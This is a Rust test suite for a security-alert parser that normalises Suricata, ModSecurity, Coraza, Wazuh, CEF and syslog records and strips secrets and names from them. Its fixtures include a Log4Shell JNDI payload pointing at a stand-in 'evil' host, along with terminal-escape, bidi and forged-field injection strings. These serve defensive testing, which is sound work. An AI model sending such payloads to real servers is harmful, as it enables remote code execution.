//! What lines of alerts become.

use bedrail_formats::alerts::{Line, LineReader, Mapping, Read, Reading, Settings, Why};
use bedrail_model::alert::{Counters, Direction, Event, Outcome, Side, SourceKind, TimeFlaw};
use bedrail_model::severity::Severity;
use jiff::Timestamp;
use sha2::{Digest as _, Sha256};

mod planted;
mod split;

fn received() -> Timestamp {
    "2026-11-27T08:00:00Z".parse().unwrap()
}

fn with<T>(settings: Settings, line: &[u8], look: impl FnOnce(Read<'_>) -> T) -> T {
    look(LineReader::new(settings).read(&Line::whole(line), received()))
}

/// The event that a line becomes.
fn event(line: &str) -> Event<'static> {
    event_by(Settings::default(), line)
}

fn event_by(settings: Settings, line: &str) -> Event<'static> {
    with(settings, line.as_bytes(), |read| match read.reading {
        Reading::Event(event) => event.into_owned(),
        other => panic!("{line} is {other:?}"),
    })
}

fn counters(line: &str) -> Counters<'static> {
    with(Settings::default(), line.as_bytes(), |read| match read.reading {
        Reading::Counters(counters) => counters.into_owned(),
        other => panic!("{line} is {other:?}"),
    })
}

fn no_alert(line: &str) -> String {
    with(Settings::default(), line.as_bytes(), |read| match read.reading {
        Reading::NotAnAlert(kind) => kind.into_owned(),
        other => panic!("{line} is {other:?}"),
    })
}

fn why(line: &[u8]) -> Why {
    why_by(Settings::default(), line)
}

fn why_by(settings: Settings, line: &[u8]) -> Why {
    with(settings, line, |read| match read.reading {
        Reading::NotUnderstood(why) => why,
        other => panic!("{other:?}"),
    })
}

/// Both sides as `address port > address port`.
fn sides(event: &Event<'_>) -> String {
    let side = |side: bedrail_model::alert::Endpoint| {
        let address = side.address.map_or("-".to_owned(), |it| it.to_string());
        format!("{address} {}", side.port.map_or("-".to_owned(), |it| it.to_string()))
    };
    format!("{} > {}", side(event.from), side(event.to))
}

/// Suricata user guide, "Eve JSON Format", with fields that must not be kept.
const EVE: &str = r#"{"timestamp":"2026-11-27T08:24:37.251547+0100","flow_id":586497171462735,"in_iface":"eth0","event_type":"alert","src_ip":"203.0.113.5","src_port":50096,"dest_ip":"10.20.1.7","dest_port":8042,"proto":"TCP","host":"sensor-1","metadata":{"flowbits":["a"]},"alert":{"action":"allowed","gid":1,"signature_id":2034647,"rev":2,"signature":"ET EXPLOIT Apache log4j RCE Attempt","category":"Attempted Administrator Privilege Gain","severity":1,"metadata":{"signature_severity":["Critical"]}},"http":{"hostname":"pacs.example.org","url":"/patients/miller?name=Miller&token=s3cret","http_user_agent":"${jndi:ldap://evil}","http_refer":"http://intern/","cookie":"SESSION=1"},"payload_printable":"GET secret","email":{"from":"a@example.org"},"app_proto":"http"}"#;

#[test]
fn an_alert_of_suricata_is_stripped_to_what_is_listed() {
    let event = event(EVE);
    assert_eq!(event.source, SourceKind::Eve);
    assert_eq!(event.sensor.as_deref(), Some("sensor-1"));
    assert_eq!((event.time.at, event.time.flaw), ("2026-11-27T07:24:37.251547Z".parse().unwrap(), None));
    assert_eq!((&*event.rule.id, event.rule.severity), ("1:2034647", Severity::Critical));
    assert_eq!(event.rule.name.as_deref(), Some("ET EXPLOIT Apache log4j RCE Attempt"));
    assert_eq!(sides(&event), "203.0.113.5 50096 > 10.20.1.7 8042");
    assert_eq!(
        (event.direction, event.attacker, event.outcome),
        (Direction::Inbound, Side::From, Outcome::Allowed)
    );
    assert_eq!(event.path.as_str(), "/patients/*");
    let kept = format!("{event:?}");
    for secret in ["iller", "s3cret", "jndi", "SESSION", "GET", "example.org", "intern/"] {
        assert!(!kept.contains(secret), "{secret} is kept: {kept}");
    }
    // A carriage return is part of what was received.
    with(Settings::default(), format!("{EVE}\r").as_bytes(), |read| {
        let digest: [u8; 32] = Sha256::digest(format!("{EVE}\r")).into();
        assert_eq!(read.original, digest);
        assert_ne!(read.original, event.original);
    });
}

/// User guide, "Alert" (`action`), "Verdict" (since 7.0), rule keyword `target`.
#[test]
fn outcome_and_attacker_are_what_suricata_says() {
    let with = |alert: &str, rest: &str| {
        event(&format!(
            r#"{{"timestamp":"2026-11-27T07:00:00Z","event_type":"alert","src_ip":"10.20.1.7","dest_ip":"203.0.113.5","alert":{{"signature_id":1,{alert}}}{rest}}}"#
        ))
    };
    for (alert, rest, outcome) in [
        (r#""action":"allowed""#, "", Outcome::Allowed),
        (r#""action":"blocked""#, "", Outcome::Blocked),
        (
            r#""action":"allowed""#,
            r#","verdict":{"action":"drop","reject":["icmp-prohib"]}"#,
            Outcome::Blocked,
        ),
        (r#""action":"allowed""#, r#","verdict":{"action":"alert"}"#, Outcome::Allowed),
        (r#""signature":"x""#, "", Outcome::Unknown),
        (r#""action":"perhaps""#, "", Outcome::Unknown),
        (r#""action":"blocked","category":"Successful Administrator Privilege Gain""#, "", Outcome::Success),
        (
            r#""action":"allowed","signature":"GPL ATTACK_RESPONSE id check returned root""#,
            "",
            Outcome::Success,
        ),
    ] {
        assert_eq!(with(alert, rest).outcome, outcome, "{alert}{rest}");
    }
    // A call home is held against the device, whoever opened the connection.
    let home = with(r#""action":"allowed""#, "");
    assert_eq!((home.direction, home.attacker), (Direction::Outbound, Side::To));
    assert_eq!(home.device().address, Some("10.20.1.7".parse().unwrap()));
    let named = with(r#""source":{"ip":"10.20.1.7"},"target":{"ip":"203.0.113.5"}"#, "");
    assert_eq!(named.attacker, Side::From, "the rule knows better");
    for (severity, expected) in
        [("1", Severity::High), ("2", Severity::Medium), ("\"3\"", Severity::Low), ("9", Severity::Unknown)]
    {
        assert_eq!(with(&format!(r#""severity":{severity}"#), "").rule.severity, expected);
    }
}

#[test]
fn every_record_of_suricata_is_something() {
    assert_eq!(no_alert(r#"{"timestamp":"2026-11-27T07:00:00Z","event_type":"flow","flow":{}}"#), "flow");
    assert_eq!(no_alert(r#"{"event_type":"dns","dns":{"rrname":"a"}}"#), "dns");
    assert_eq!(why(br#"{"event_type":"telepathy"}"#), Why::UnknownType("telepathy".into()));
    assert_eq!(why(br#"{"event_type":"alert"}"#), Why::Missing("alert"));
    assert_eq!(
        why(br#"{"event_type":"alert","alert":{"action":"allowed"}}"#),
        Why::Missing("alert.signature_id")
    );
    assert_eq!(why(br#"{"event_type":"alert","alert":{"#).code(), "broken_json");
    assert_eq!(why(br#"{"event_type":"alert"}{"event_type":"alert"}"#).code(), "broken_json");
    // User guide, "Statistics"; fields as version 7 writes them.
    let stats = counters(
        r#"{"timestamp":"2026-11-27T07:00:00Z","event_type":"stats","host":"s","stats":{"uptime":800,"capture":{"kernel_packets":4096,"kernel_drops":3},"decoder":{"pkts":4090},"detect":{"engines":[{"id":0}],"alert":17,"alert_queue_overflow":2,"alerts_suppressed":1}}}"#,
    );
    assert_eq!((stats.uptime, stats.alerts, stats.alerts_lost), (Some(800), Some(17), Some(2)));
    assert_eq!((stats.alerts_suppressed, stats.packets, stats.packets_lost), (Some(1), Some(4096), Some(3)));
    let old = counters(r#"{"event_type":"stats","stats":{"decoder":{"pkts":9}}}"#);
    assert_eq!((old.packets, old.alerts, old.time.flaw), (Some(9), None, Some(TimeFlaw::Missing)));
}

fn modsecurity(rest: &str, rules: &[(u32, &str)]) -> String {
    let messages: Vec<String> = rules
        .iter()
        .map(|(id, severity)| {
            format!(
                r#"{{"message":"Name of {id}","details":{{"match":"Matched s3cret","ruleId":"{id}","data":"s3cret","severity":"{severity}","tags":["attack-rce"]}}}}"#
            )
        })
        .collect();
    let messages = messages.join(",");
    format!(
        r#"{{"transaction":{{"client_ip":"198.51.100.4","time_stamp":"Fri Nov 27 07:41:26 2026","server_id":"57f0","client_port":43430,"host_ip":"10.20.0.2","host_port":8080,"unique_id":"17.48","request":{{"method":"POST","http_version":1.1,"uri":"/login?user=miller","body":"password=s3cret","headers":{{"Cookie":"SESSION=1"}}}}{rest},"messages":[{messages}]}}}}"#
    )
}

/// ModSecurity reference manual v3, `SecAuditLogFormat JSON`; rules of the Core Rule Set by their files.
#[test]
fn an_audit_record_of_modsecurity_is_one_event() {
    let blocked = r#","is_interrupted":true,"response":{"http_code":403}"#;
    let one = event(&modsecurity(blocked, &[(920350, "4"), (944150, "2"), (932130, "2"), (949110, "0")]));
    assert_eq!((one.source, &*one.rule.id, one.rule.also), (SourceKind::ModSecurity, "944150", 3));
    assert_eq!(one.rule.name.as_deref(), Some("Name of 944150"));
    assert_eq!((one.rule.severity, one.outcome), (Severity::Critical, Outcome::Blocked));
    assert_eq!(sides(&one), "198.51.100.4 43430 > 10.20.0.2 8080");
    assert_eq!(one.time.flaw, Some(TimeFlaw::ZoneAssumed));
    assert_eq!(one.path.as_str(), "/login");
    let kept = format!("{one:?}");
    assert!(!["s3cret", "miller", "SESSION"].iter().any(|it| kept.contains(it)), "{kept}");
    let attack: &[(u32, &str)] = &[(942100, "2"), (949110, "0")];
    for (rest, rules, outcome) in [
        (r#","is_interrupted":false,"response":{"http_code":200}"#, attack, Outcome::Allowed),
        (r#","response":{"http_code":200}"#, attack, Outcome::Allowed),
        (
            r#","response":{"http_code":403},"producer":{"secrules_engine":"Enabled"}"#,
            attack,
            Outcome::Blocked,
        ),
        // An application says 403, too.
        (
            r#","response":{"http_code":403},"producer":{"secrules_engine":"Enabled"}"#,
            &[(942100, "2")],
            Outcome::Unknown,
        ),
        (
            r#","response":{"http_code":403},"producer":{"secrules_engine":"DetectionOnly"}"#,
            attack,
            Outcome::Allowed,
        ),
        (
            r#","is_interrupted":true,"producer":{"secrules_engine":"DetectionOnly"}"#,
            attack,
            Outcome::Allowed,
        ),
        ("", attack, Outcome::Unknown),
        // An error of the database in the answer: the attack had reached it.
        (blocked, &[(942100, "2"), (951110, "2"), (959100, "0")], Outcome::Success),
    ] {
        assert_eq!(event(&modsecurity(rest, rules)).outcome, outcome, "{rest} {rules:?}");
    }
    assert_eq!(no_alert(&modsecurity("", &[])), "transaction without a rule");
    assert_eq!(&*event(&modsecurity("", &[(949110, "0")])).rule.id, "949110", "better than none");
}

/// What the firewall of this workspace writes, kept as a file by its own tests.
#[test]
fn events_of_the_firewall_are_read_as_audit_records() {
    let lines = include_str!("../../../waf/fixtures/events.jsonl");
    let read: Vec<_> = lines.lines().map(event).collect();
    let rows: Vec<_> = read.iter().map(|it| (it.source, &*it.rule.id, it.outcome)).collect();
    let due = [
        ("944150", Outcome::Blocked),
        ("944150", Outcome::Allowed),
        // A rule on answers: the attack had reached the device.
        ("951110", Outcome::Success),
        ("70009", Outcome::Blocked),
        ("70042", Outcome::Allowed),
    ];
    assert_eq!(rows, due.map(|(id, outcome)| (SourceKind::ModSecurity, id, outcome)));
    let first = &read[0];
    assert_eq!(sides(first), "198.51.100.4 43430 > 10.20.0.2 8080");
    assert_eq!((first.time.at, first.time.flaw), ("2026-11-27T07:41:26Z".parse().unwrap(), None));
    assert_eq!((first.sensor.as_deref(), first.path.as_str()), (Some("pump"), "/login"));
}

/// Coraza documentation, "Logging", and the fields that its code writes (v3).
#[test]
fn an_audit_record_of_coraza_is_one_event() {
    let line = r#"{"transaction":{"timestamp":"2026/11/27 07:41:26","unix_timestamp":1795765286000000000,"id":"A","client_ip":"198.51.100.4","client_port":54481,"host_ip":"","host_port":0,"server_id":"pacs","request":{"method":"POST","uri":"/login","body":"s3cret","headers":{"Cookie":["a"]}},"response":{"status":403},"producer":{"rule_engine":"On"},"highest_severity":"","is_interrupted":true},"messages":[{"actionset":"Warning","message":"Pattern match s3cret","error_message":"","data":{"file":"x","line":1,"id":944150,"msg":"Log4j","data":"s3cret","severity":2,"tags":[]}}]}"#;
    let one = event(line);
    assert_eq!((one.source, &*one.rule.id, one.outcome), (SourceKind::Coraza, "944150", Outcome::Blocked));
    assert_eq!((one.time.at, one.time.flaw), ("2026-11-27T07:41:26Z".parse().unwrap(), None));
    assert_eq!((sides(&one).as_str(), one.direction), ("198.51.100.4 54481 > - -", Direction::Unknown));
    assert!(!format!("{one:?}").contains("s3cret"));
    // What an attacker wrote into a body is no mark of a format.
    let forged = line.replace("s3cret", r#"\"time_stamp\":1, \"event_type\":\"alert\""#);
    assert_eq!(event(&forged).source, SourceKind::Coraza);
}

/// Wazuh documentation, "Alert management": an alert of its own rules, and one of Suricata handed on.
#[test]
fn an_alert_of_wazuh_loses_names_of_persons() {
    let line = r#"{"timestamp":"2026-11-27T07:10:05.000+0000","rule":{"level":10,"description":"sshd: brute force on jmiller via jmiller.","id":"5712","firedtimes":3,"groups":["syslog","sshd"],"hipaa":["164.312.b"]},"agent":{"id":"003","name":"pacs-1","ip":"10.20.0.9"},"manager":{"name":"wazuh"},"id":"1.2","full_log":"Failed password for jmiller from 203.0.113.8","decoder":{"name":"sshd"},"data":{"srcip":"203.0.113.8","srcport":"4242","srcuser":"jmiller"},"location":"/var/log/secure"}"#;
    let one = event(line);
    assert_eq!((one.source, &*one.rule.id, one.rule.severity), (SourceKind::Wazuh, "5712", Severity::Medium));
    assert_eq!(one.rule.name.as_deref(), Some("sshd: brute force on … via …."));
    assert_eq!(sides(&one), "203.0.113.8 4242 > 10.20.0.9 -", "the agent's machine is what it happened to");
    assert_eq!((one.sensor.as_deref(), one.outcome), (Some("pacs-1"), Outcome::Unknown));
    assert!(!format!("{one:?}").contains("miller"));
    let suricata = |signature: u32, category: &str| {
        event(&format!(
            r#"{{"timestamp":"2026-11-27T07:10:05.000+0000","rule":{{"level":3,"description":"Suricata: Alert","id":"86601","groups":["ids"]}},"agent":{{"id":"000","name":"m"}},"data":{{"src_ip":"203.0.113.8","dest_ip":"10.20.0.9","dest_port":"80","event_type":"alert","alert":{{"action":"blocked","signature_id":"{signature}","signature":"ET X","category":"{category}"}}}}}}"#
        ))
    };
    let (one, other) = (suricata(1, "Misc Attack"), suricata(2, "Misc Attack"));
    assert_eq!(
        (&*one.rule.id, &*other.rule.id),
        ("86601/1", "86601/2"),
        "one rule of Wazuh is not one rule of Suricata"
    );
    assert_eq!((one.outcome, one.rule.name.as_deref()), (Outcome::Blocked, Some("ET X")));
    assert_eq!(suricata(1, "Successful User Privilege Gain").outcome, Outcome::Success);
    let web = line.replace("\"5712\"", "\"31106\"");
    assert_eq!(event(&web).outcome, Outcome::Success, "a web attack answered with 200");
}

/// ArcSight CEF Implementation Standard, "Header Field Definitions" and "Character Encoding".
#[test]
fn cef_is_read_with_its_escapes() {
    let one = event(
        r"CEF:0|Acme \| Sons|IPS\\1|1.0|100|worm successfully stopped|10|src=203.0.113.1 dst=10.0.0.2 spt=1232 dpt=80 act=blocked outcome=success cnt=3 suser=jmiller msg=Miller said a\=b rt=1795765286000 request=http://pacs/patients/miller?x\=1 dvchost=ips-1",
    );
    assert_eq!((one.source, &*one.rule.id), (SourceKind::Cef, r"Acme | Sons/IPS\1/100"));
    assert_eq!((one.rule.severity, one.outcome, one.count), (Severity::Critical, Outcome::Blocked, 3));
    assert_eq!(sides(&one), "203.0.113.1 1232 > 10.0.0.2 80");
    assert_eq!((one.path.as_str(), one.sensor.as_deref()), ("/patients/*", Some("ips-1")));
    assert_eq!(one.time.at, "2026-11-27T07:41:26Z".parse().unwrap());
    assert!(!format!("{one:?}").to_lowercase().contains("miller"));
    let outcome = |rest: &str| event(&format!("CEF:1|a|b|c|d|e|High|{rest}")).outcome;
    assert_eq!(outcome("act=detected outcome=success"), Outcome::Success);
    assert_eq!(outcome("act=permit"), Outcome::Allowed);
    assert_eq!(outcome("outcome=failure"), Outcome::Unknown);
    assert_eq!(outcome(""), Outcome::Unknown);
    assert_eq!(event("CEF:0|a|b|c|d|e|High|").rule.severity, Severity::High);
    let outbound = event("CEF:0|a|b|c|d|e|3|deviceDirection=1 src=198.51.100.1 dst=203.0.113.1");
    assert_eq!((outbound.direction, outbound.attacker), (Direction::Outside, Side::To));
    let v6 = event("CEF:0|a|b|c|d|e|3|c6a2=2001:db8::1 c6a2Label=Source IPv6 Address c6a3=fe80::1%eth0");
    assert_eq!(sides(&v6), "2001:db8::1 - > fe80::1 -");
    assert_eq!(why(b"CEF:0|a|b|c|d|e").code(), "header");
    assert_eq!(why(b"CEF:7|a|b|c|d|e|3|").code(), "header");
    assert_eq!(why(b"CEF:0|a|b|c||e|3|").code(), "missing");
}

/// The examples of RFC 3164 §5.4 and RFC 5424 §6.5, and what stands inside of syslog in use.
#[test]
fn syslog_of_both_rfcs_is_opened() {
    let rfc3164 = event("<34>Oct 11 22:14:15 mymachine su: 'su root' failed for lonvick on /dev/pts/8");
    assert_eq!((rfc3164.source, &*rfc3164.rule.id), (SourceKind::Syslog, "su"));
    assert_eq!((rfc3164.sensor.as_deref(), rfc3164.rule.severity), (Some("mymachine"), Severity::Critical));
    assert_eq!(
        (rfc3164.time.at, rfc3164.time.flaw),
        ("2026-10-11T22:14:15Z".parse().unwrap(), Some(TimeFlaw::YearAssumed))
    );
    assert!(!format!("{rfc3164:?}").contains("lonvick"), "the message is not kept");
    let rfc5424 = event(
        "<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 - \u{feff}'su root' failed for lonvick",
    );
    assert_eq!((&*rfc5424.rule.id, rfc5424.sensor.as_deref()), ("su/ID47", Some("mymachine.example.com")));
    assert_eq!(rfc5424.time.at, "2003-10-11T22:14:15.003Z".parse().unwrap());
    assert_eq!(
        no_alert(
            "<165>1 2003-08-24T05:14:15.000003-07:00 192.0.2.1 myproc 8710 - - %% It's time to make the do-nuts."
        ),
        "syslog notice"
    );
    let strict = Settings { syslog_severity: 5, ..Settings::default() };
    let structured = r#"<165>1 2003-10-11T22:14:15.003Z host evntslog - ID47 [exampleSDID@32473 iut="3" eventSource="a \"]\" b"][meta sequenceId="29"] msg"#;
    with(strict, structured.as_bytes(), |read| {
        assert_eq!(read.sequence.map(|it| it.number), Some(29));
        assert!(matches!(read.reading, Reading::Event(event) if event.rule.id == "evntslog/ID47"));
    });
    let asa = event(
        "<164>Nov 27 07:00:00 asa : %ASA-4-106023: Deny tcp src outside:198.51.100.80/51234 dst inside:10.0.0.5/80",
    );
    assert_eq!(&*asa.rule.id, "ASA-4-106023");
    assert_eq!(why(b"<999>x").code(), "unknown_shape");
    assert_eq!(why(b"Oct 11 22:14:15 host su: no priority").code(), "header");
    assert_eq!(why(b"<34>1 ").code(), "unknown_shape");
    assert_eq!(why(b"hello").code(), "unknown_shape");
}

#[test]
fn what_stands_inside_of_syslog_is_read_by_its_own_format() {
    let cef = "CEF:0|Acme|IPS|1|100|n|5|src=203.0.113.1 dst=10.0.0.2";
    let time = "2026-11-27T07:30:00Z";
    for head in [
        "<134>Nov 27 07:30:00 gw ".to_owned(),
        "Nov 27 07:30:00 gw ".to_owned(),
        "<134>2026-11-27T07:30:00Z gw ".to_owned(),
        "<134>Nov 27 07:30:00 gw ips[1]: ".to_owned(),
        "<134>1 2026-11-27T07:30:00Z gw ips - - - ".to_owned(),
        "<134>1 2026-11-27T07:30:00Z gw ips 1 x [a b=\"c\"] \u{feff}".to_owned(),
    ] {
        let one = event(&format!("{head}{cef}"));
        assert_eq!((one.source, &*one.rule.id), (SourceKind::Cef, "Acme/IPS/100"), "{head}");
        assert_eq!((one.sensor.as_deref(), one.time.at), (Some("gw"), time.parse().unwrap()), "{head}");
    }
    for head in
        ["<134>Nov 27 07:30:00 gw suricata[4711]: ", "<134>1 2026-11-27T07:30:00Z gw suricata 1 - - @cee: "]
    {
        let one = event(&format!("{head}{EVE}"));
        assert_eq!((one.source, one.sensor.as_deref()), (SourceKind::Eve, Some("sensor-1")), "{head}");
        assert_eq!(one.time.at, "2026-11-27T07:24:37.251547Z".parse().unwrap(), "its own time goes first");
        let set = Settings { kind: Some(SourceKind::Eve), ..Settings::default() };
        assert_eq!(event_by(set, &format!("{head}{EVE}")).source, SourceKind::Eve);
        let syslog = Settings { kind: Some(SourceKind::Syslog), ..Settings::default() };
        assert_eq!(event_by(syslog, &format!("{head}{EVE}")).source, SourceKind::Eve);
    }
    let own = Settings { kind: Some(SourceKind::Own), ..Settings::default() };
    assert_eq!(why_by(own, EVE.as_bytes()), Why::NoReader(SourceKind::Own));
}

const MAPPING: &str = r#"{
  "fields": {"time": "/ts", "rule": "/sig/id", "name": "/sig/title", "severity": "/sev", "from_address": "/c/0/ip",
             "from_port": "/c/0/port", "to_address": "/c/1/ip", "path": "/a~1b", "outcome": "/did", "count": "/n", "sensor": "/by"},
  "only": {"/type": ["alert", "ids"]},
  "severities": {"P1": "critical"},
  "outcomes": {"let be": "allowed"}
}"#;

#[test]
fn any_json_is_read_by_a_mapping() {
    let by = || Settings {
        kind: Some(SourceKind::Mapped),
        mapping: Some(Mapping::parse(MAPPING).expect("a mapping")),
        ..Settings::default()
    };
    let line = r#"{"type":"ids","ts":1795765286,"sig":{"id":7,"title":"T"},"sev":"p1","c":[{"ip":"203.0.113.1","port":"9"},{"ip":"10.0.0.1"}],"a/b":"/x?y=z","did":"Let be","n":4,"by":"m","user":"miller"}"#;
    let one = event_by(by(), line);
    assert_eq!(
        (&*one.rule.id, one.rule.severity, one.outcome, one.count),
        ("7", Severity::Critical, Outcome::Allowed, 4)
    );
    assert_eq!((sides(&one).as_str(), one.path.as_str()), ("203.0.113.1 9 > 10.0.0.1 -", "/x"));
    with(by(), line.replace("\"ids\"", "\"log\"").as_bytes(), |read| {
        assert!(matches!(read.reading, Reading::NotAnAlert(_)));
    });
    let message = why_by(by(), br#"{"type":"ids","sig":{"identity":7,"rev":1}}"#).to_string();
    assert_eq!(
        message,
        "there is nothing at `/sig/id`, where `rule` is mapped to; `/sig` has `identity`, `rev`"
    );
    let message = why_by(by(), br#"{"type":"ids","sig":[1,2]}"#).to_string();
    assert!(message.ends_with("`/sig` is a list of 2"), "{message}");
    let mapping = Mapping::parse(MAPPING).expect("a mapping");
    assert_eq!(mapping.missing(line), []);
    assert_eq!(mapping.missing(r#"{"sig":{"id":1}}"#).len(), 10);
    let unset = Settings { kind: Some(SourceKind::Mapped), ..Settings::default() };
    assert_eq!(why_by(unset, line.as_bytes()).code(), "missing");
}

#[test]
fn a_mapping_file_says_all_that_is_wrong_with_it() {
    for (file, said) in [
        ("", vec!["not readable"]),
        (r#"{"fields":{"rule":"/a"},"colour":1}"#, vec!["unknown field `colour`"]),
        (
            r#"{"fields":{"rul":"/a","time":"ts","name":"/a~2"},"only":{"x":[]},"severities":{"9":"dreadful"},"outcomes":{"a":"maybe"}}"#,
            vec![
                "`/fields/rul` is no field; hint: the fields are time, sensor, rule",
                "`/fields/rule` is missing",
                "`ts` is no JSON pointer; hint: write /a/b",
                "`/a~2`: a `~` is written ~0",
                "a place in `/only`: `x`",
                "`/severities/9`: `dreadful` is not known",
                "`/outcomes/a`: `maybe` is not known",
            ],
        ),
    ] {
        let message = Mapping::parse(file).expect_err(file).to_string();
        for said in said {
            assert!(message.contains(said), "{said:?} is not in {message:?}");
        }
    }
}

/// `SECURITY.log`-like hostile lines: each is exactly one thing, is cleaned and counted, and nothing of it is lost.
#[test]
fn hostile_lines_are_cleaned_counted_and_accounted() {
    let time = |text: &str| EVE.replace("2026-11-27T08:24:37.251547+0100", text);
    for (text, flaw) in [
        ("1970-01-01T00:00:00Z", TimeFlaw::Before2000),
        ("2099-01-01T00:00:00Z", TimeFlaw::Future),
        ("never", TimeFlaw::Unreadable),
        ("", TimeFlaw::Missing),
        ("2026-02-31T00:00:00Z", TimeFlaw::Unreadable),
    ] {
        let one = event(&time(text));
        assert_eq!((one.time.at, one.time.flaw), (received(), Some(flaw)), "{text}");
    }
    let raw = EVE.replace("ET EXPLOIT", "ET \u{1b}[31m\0EXPLOIT");
    with(Settings::default(), raw.as_bytes(), |read| {
        assert_eq!((read.flaws.controls, read.flaws.nuls), (1, 1));
        assert!(matches!(read.reading, Reading::Event(_)));
    });
    let escaped = event(&EVE.replace("ET EXPLOIT", r"ET \u001b[31mEXPLOIT\u202e"));
    let name = escaped.rule.name.unwrap();
    assert_eq!(name, r"ET \u{1b}[31mEXPLOIT\u{202e} Apache log4j RCE Attempt", "shown, not done");
    let mut wrong = EVE.replace("ET EXPLOIT", "ET ?EXPLOIT").into_bytes();
    let at = wrong.iter().position(|byte| *byte == b'?').unwrap();
    wrong[at] = 0xff;
    with(Settings::default(), &wrong, |read| {
        assert_eq!(read.flaws.not_utf8, 1);
        assert!(matches!(read.reading, Reading::Event(_)));
    });
    let long = event(&EVE.replace("ET EXPLOIT", &"é".repeat(10_000)));
    assert!(long.rule.name.unwrap().len() <= 256);
    let deep = format!(r#"{{"event_type":"alert","x":{}{}}}"#, "[".repeat(100_000), "]".repeat(100_000));
    assert_eq!(why(deep.as_bytes()).code(), "missing", "what is not needed is passed over without a stack");
    let deep = deep.replace(r#""event_type":"alert","x""#, r#""rule":{"id":"1"},"agent":{},"data""#);
    assert_eq!(why(deep.as_bytes()).code(), "broken_json");
    for line in [r#"{"event_type":["alert"]}"#, r#"{"event_type":null}"#, "{}", "[]", "null", "\u{fffd}"] {
        let code = why(line.as_bytes()).code();
        assert!(matches!(code, "missing" | "unknown_shape"), "{line}: {code}");
    }
    // Wrong types of what is not needed cost nothing.
    let odd = event(
        r#"{"event_type":"alert","src_ip":{"a":1},"src_port":-5,"dest_ip":"no","dest_port":1e9,"alert":{"signature_id":"12","severity":[1],"metadata":{"signature_severity":3}}}"#,
    );
    assert_eq!((sides(&odd).as_str(), &*odd.rule.id), ("- - > - -", "1:12"));
}

#[test]
fn a_source_set_to_a_kind_takes_no_other() {
    let set = |kind| Settings { kind: Some(kind), ..Settings::default() };
    assert_eq!(why_by(set(SourceKind::Eve), b"CEF:0|a|b|c|d|e|3|").code(), "broken_json");
    assert_eq!(why_by(set(SourceKind::Cef), EVE.as_bytes()).code(), "header");
    assert_eq!(why_by(set(SourceKind::Wazuh), EVE.as_bytes()).code(), "missing");
    assert_eq!(why_by(set(SourceKind::ModSecurity), EVE.as_bytes()).code(), "missing");
}

/// What real tools wrote: of none of it is anything lost, and none of it is taken for an alert that it is not.
#[test]
fn other_tools_outputs_are_accounted_line_by_line() {
    let Some(folder) = crate::shared("captured") else { return };
    let (mut lines, mut events) = (0_u64, 0);
    for file in crate::files_below(&folder) {
        let Ok(bytes) = std::fs::read(&file) else { continue };
        let mut splitter = bedrail_formats::alerts::Splitter::new(bedrail_formats::alerts::Framing::Lines, 0);
        let mut account = bedrail_formats::alerts::Account::default();
        let mut reader = LineReader::new(Settings::default());
        let mut take = |line: Line<'_>| account.add(&reader.read(&line, received()));
        splitter.feed(&bytes, &mut take);
        splitter.end(&mut take);
        assert_eq!(account.lines(), splitter.counts().lines, "{}", file.display());
        assert_eq!(account.counters, 0, "{}", file.display());
        lines += account.lines();
        events += account.events;
    }
    assert!(lines > 10_000, "{lines}");
    assert_eq!(events, 0, "scans and resources are no alerts");
}
